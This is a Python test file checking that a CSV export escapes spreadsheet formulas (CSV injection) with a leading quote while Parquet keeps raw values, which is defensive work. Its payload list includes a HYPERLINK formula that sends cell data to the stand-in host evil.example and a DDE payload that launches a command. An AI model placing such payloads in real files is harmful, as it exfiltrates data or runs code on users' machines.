"""CSV exports are safe to open in a spreadsheet: a text cell that a spreadsheet would
run as a formula (OWASP, CSV injection) is written with a leading single quote; numbers
are left alone and Parquet keeps the values as stored."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from experiments.privacy.export import Column, _write_table, spreadsheet_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tx=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_is_written_as_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


def test_the_csv_neutralises_text_cells_and_parquet_keeps_them(tmp_path: Path) -> None:
    columns = [Column("object_id", "string", "the object", ""),
               Column("score", "float", "a score", "points")]
    rows = [{"object_id": text, "score": -1.5} for text in FORMULAS]
    rows.append({"object_id": "lectio-1", "score": 2.0})
    _write_table(tmp_path, "events", columns, rows, ("parquet", "csv"))
    with (tmp_path / "events.csv").open(newline="", encoding="utf-8") as handle:
        written = list(csv.DictReader(handle))
    assert [r["object_id"] for r in written] == ["'" + t for t in FORMULAS] + ["lectio-1"]
    assert {r["score"] for r in written} == {"-1.5", "2.0"}, "numbers stay numbers"
    parquet = pq.read_table(tmp_path / "events.parquet").to_pylist()
    assert [r["object_id"] for r in parquet] == [*FORMULAS, "lectio-1"]
